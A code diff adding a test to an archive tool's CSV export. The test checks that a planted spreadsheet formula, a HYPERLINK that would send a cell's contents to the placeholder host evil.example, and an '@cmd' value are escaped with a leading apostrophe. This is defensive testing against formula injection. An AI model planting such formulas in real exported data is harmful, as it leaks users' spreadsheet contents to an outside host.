@@ -139,3 +139,19 @@ def test_export_streams(tmp_path: Path) -> None:
     assert count == 3000
     assert written > 12_000_000  # text and raw appear in the post and in its snapshot
     assert peak < written / 10
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    project = build_archive(tmp_path / "own")  # this test changes posts
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    db = sqlite3.connect(project.parent / "archive.db")
+    db.execute("UPDATE posts SET text = ?, author_name = '@cmd' WHERE key = ?", [formula, f"x:{POST_JACK}"])
+    db.commit()
+    db.close()
+    out = tmp_path / "posts.csv"
+    CliRunner().invoke(cli, ["--config", str(project), "export", "--format", "csv", "-o", str(out)])
+    with out.open(encoding="utf-8", newline="") as handle:
+        row = next(r for r in csv.DictReader(handle) if r["key"] == f"x:{POST_JACK}")
+    assert row["text"] == "'" + formula and row["author_name"] == "'@cmd"
+    jsonl = CliRunner().invoke(cli, ["--config", str(project), "export", "--author", "jack"])
+    assert json.loads(jsonl.output.splitlines()[0])["text"] == formula  # JSON stays exact
